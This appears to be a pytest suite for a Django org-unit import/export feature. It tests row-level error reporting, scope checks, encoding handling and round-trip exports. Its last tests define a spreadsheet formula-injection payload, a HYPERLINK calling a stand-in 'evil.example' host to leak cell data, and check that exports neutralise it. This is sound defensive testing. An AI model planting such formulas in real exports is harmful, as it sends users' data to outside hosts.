"""Importing org units: all or nothing, every bad row named; exports round-trip and are safe to open."""

from __future__ import annotations

import csv
import io
from contextlib import contextmanager

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from luoshi.audit.models import AuditRecord
from luoshi.core.context import batch
from luoshi.core.tabular import TableError, read_table
from luoshi.orgs import services
from luoshi.orgs.models import OrgUnit

pytestmark = pytest.mark.django_db

HEADER = "code,name,type,parent_code"


def do_import(actor, data: bytes | str, filename: str = "units.csv") -> dict:
    if isinstance(data, str):
        data = data.encode("utf-8")
    rows = read_table(data, filename, services.IMPORT_COLUMNS, services.IMPORT_OPTIONAL)
    with batch("import"):
        return services.import_units(actor, rows, filename)


def xlsx(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def tree_state():
    return sorted(OrgUnit.objects.values_list("code", "name", "short_name", "type", "parent_id", "path", "version"))


@contextmanager
def nothing_written():
    """The block must change no unit and write no audit record."""
    units, audits = tree_state(), AuditRecord.objects.count()
    yield
    assert AuditRecord.objects.count() == audits, "audit records were written"
    assert tree_state() == units, "units were changed"


def refused(actor, data, filename="units.csv") -> list:
    """Import ``data``, expecting a refusal that writes nothing; return the errors."""
    with nothing_written(), pytest.raises(TableError) as exc:
        do_import(actor, data, filename)
    errors = exc.value.errors
    assert errors and all(e.filename == filename for e in errors)
    return errors


def rows_of(errors) -> set:
    return {e.row for e in errors}


# Refusals ------------------------------------------------------------------------------------

def test_it_refuses_wrong_columns_naming_them(world):
    errors = refused(world.admin, "code,name,kind,parent\nX1,某单位,school,110101\n")
    assert rows_of(errors) == {1}
    message = errors[0].message
    assert "missing columns: type, parent_code" in message and "unknown columns: kind, parent" in message


def test_it_refuses_unknown_parents_naming_every_row(world):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,999999\nX2,二,school,110101\nX3,三,school,NOPE\n")
    assert rows_of(errors) == {2, 4}
    assert {e.field for e in errors} == {"parent_code"}
    assert "999999" in errors[0].message and "NOPE" in errors[1].message


def test_it_treats_a_parent_outside_the_importers_scope_as_unknown(world):
    errors = refused(world.beijing_admin, f"{HEADER}\nX1,一,school,310101\nX2,二,school,110101\n")
    assert rows_of(errors) == {2}
    assert "310101" in errors[0].message


def test_it_refuses_duplicate_codes(world):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,110101\nX2,二,school,110101\nX1,三,school,110101\nX2,四,school,110101\n")
    assert rows_of(errors) == {4, 5}
    assert "first in row 2" in errors[0].message and "first in row 3" in errors[1].message


def test_it_refuses_a_cycle_within_the_file(world):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,110101\nA,甲,other,B\nB,乙,other,A\n")
    assert rows_of(errors) == {3, 4}
    assert all("cycle" in e.message for e in errors)


def test_it_refuses_a_file_moving_a_unit_below_its_own_descendant(world):
    errors = refused(world.admin, f"{HEADER}\n110000,北京市教育委员会,province,S110101001\n")
    assert rows_of(errors) == {2}
    assert "cycle" in errors[0].message


def test_it_refuses_a_unit_as_its_own_parent(world):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,X1\n")
    assert rows_of(errors) == {2}


def test_it_refuses_an_empty_file(world):
    errors = refused(world.admin, b"")
    assert [e.message for e in errors] == ["the file is empty"]


def test_it_refuses_a_header_only_file(world):
    errors = refused(world.admin, f"{HEADER}\n")
    assert "header but no data rows" in errors[0].message


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_it_refuses_utf16_with_a_hint(world, encoding):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,110101\n".encode(encoding))
    assert "UTF-16" in errors[0].message and "CSV UTF-8" in errors[0].message


def test_it_refuses_binary_data(world):
    errors = refused(world.admin, bytes(range(256)) * 8)
    assert errors[0].row is None and "binary" in errors[0].message


def test_it_refuses_a_broken_xlsx(world):
    errors = refused(world.admin, b"PK\x03\x04 this is not a workbook", "units.xlsx")
    assert "not a readable .xlsx" in errors[0].message


def test_it_refuses_bad_types_and_names_every_bad_row(world):
    data = (f"{HEADER}\nX1,一,village,110101\nX2,,school,110101\nbad code!,三,school,110101\n"
            f"X4,四,school,110101\nX5,{'长' * 201},school,110101\n")
    errors = refused(world.admin, data)
    assert {(e.row, e.field) for e in errors} == {(2, "type"), (3, "name"), (4, "code"), (6, "name")}
    assert "village" in errors[0].message


def test_it_refuses_changes_to_units_outside_what_the_importer_may_change(world):
    errors = refused(world.beijing_admin, f"{HEADER}\n310101,改名,county,310000\n")
    assert rows_of(errors) == {2}


def test_it_refuses_to_change_an_ancestor_the_importer_may_only_see(world):
    errors = refused(world.beijing_admin, f"{HEADER}\nMOE,教育部（改）,ministry,\n110101,东城,county,110000\n")
    assert rows_of(errors) == {2}
    assert "MOE" in errors[0].message


def test_it_refuses_xlsx_bad_rows_naming_their_sheet_rows(world):
    data = xlsx([["code", "name", "type", "parent_code"],
                 ["X1", "一", "school", "110101"],
                 ["X2", "二", "castle", "110101"],
                 [],
                 ["X1", "重复", "school", "110101"],
                 ["X5", "五", "school", "404404"]])
    errors = refused(world.admin, data, "units.xlsx")
    assert {(e.row, e.field) for e in errors} == {(3, "type"), (5, "code"), (6, "parent_code")}


def test_it_names_each_bad_row_on_the_import_page(world, login):
    client = login("beijing_admin")
    upload = SimpleUploadedFile("units.csv", f"{HEADER}\nX1,一,school,110101\nX2,二,castle,110101\nX3,三,school,310101\n".encode())
    with nothing_written():
        response = client.post("/units/import/", {"file": upload})
    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-testid="import-errors"' in html and "Nothing was imported: 2 problems found." in html
    assert "<td>3</td>" in html and "<td>4</td>" in html and "<td>2</td>" not in html


# Success -------------------------------------------------------------------------------------

def test_it_imports_xlsx_creating_parents_before_children(world):
    data = xlsx([["code", "name", "type", "parent_code", "short_name"],
                 ["S110101901", "东城区试点小学", "School", "D1", ""],       # child before its parent
                 ["D1", "东城区教育研究中心", "affiliated", "110101", "研究中心"],
                 ["110101", "北京市东城区教育委员会", "county", "110000", "东城"]])  # an update
    audits = AuditRecord.objects.count()
    result = do_import(world.admin, data, "units.xlsx")
    assert result == {"created": 2, "updated": 1, "unchanged": 0}
    d1, school = OrgUnit.objects.get(code="D1"), OrgUnit.objects.get(code="S110101901")
    assert school.parent == d1 and d1.parent.code == "110101" and school.type == "school"
    assert school.path == f"{d1.path}{school.pk}/" and school.depth == 4
    assert OrgUnit.objects.get(code="110101").short_name == "东城"
    records = AuditRecord.objects.order_by("id")[audits:]
    assert sorted((r.action, r.verb) for r in records) == [("create", "import"), ("create", "import"), ("update", "import")]
    assert len({r.batch_id for r in records}) == 1 and records[0].source == "import"


def test_it_imports_gb18030_csv_from_chinese_excel(world):
    data = f"{HEADER}\nX1,东城区第一实验小学,school,110101\n".encode("gb18030")
    assert do_import(world.beijing_admin, data)["created"] == 1
    assert OrgUnit.objects.get(code="X1").name == "东城区第一实验小学"


def test_it_lets_an_admin_import_below_their_unit(world):
    result = do_import(world.beijing_admin, f"{HEADER}\nX1,一,school,110101\nX2,二,school,X1\n")
    assert result["created"] == 2
    assert OrgUnit.objects.get(code="X2").parent.code == "X1"


# Exports -------------------------------------------------------------------------------------

@pytest.mark.parametrize("username", ["admin", "beijing_admin"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_round_trips_an_export(world, login, username, fmt):
    response = login(username).get(f"/units/export.{fmt}")
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="org_units.{fmt}"'
    with nothing_written():
        result = do_import(world.user(username), response.content, f"org_units.{fmt}")
    assert result["created"] == result["updated"] == 0
    assert result["unchanged"] > 10


def test_it_exports_only_units_in_scope(world, login):
    rows = list(csv.reader(io.StringIO(login("beijing_reporter").get("/units/export.csv").content.decode("utf-8-sig"))))
    codes = {row[0] for row in rows[1:]}
    assert {"110000", "110101", "S110108001"} <= codes
    assert not codes & {"310000", "310101", "120000", "MOE-BGT"}


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)"])
def test_it_neutralises_formulas_in_csv_exports(world, login, name):
    services.create_unit(world.admin, code="EVIL", name=name, type="other", parent=world.unit("110101"))
    text = login("beijing_admin").get("/units/export.csv").content.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "EVIL")
    assert row[1] == "'" + name


def test_it_neutralises_formulas_in_xlsx_exports(world, login):
    services.create_unit(world.admin, code="EVIL", name=FORMULA, type="other", parent=world.unit("110101"))
    content = login("beijing_admin").get("/units/export.xlsx").content
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    cell = next(row[1] for row in ws.iter_rows() if row[0].value == "EVIL")
    assert cell.data_type == "s" and cell.value == "'" + FORMULA


def test_it_round_trips_a_unit_whose_name_looks_like_a_formula(world, login):
    services.create_unit(world.admin, code="EVIL", name=FORMULA, type="other", parent=world.unit("110101"))
    exported = login("admin").get("/units/export.csv").content
    with nothing_written():
        do_import(world.admin, exported, "org_units.csv")
    assert OrgUnit.objects.get(code="EVIL").name == FORMULA
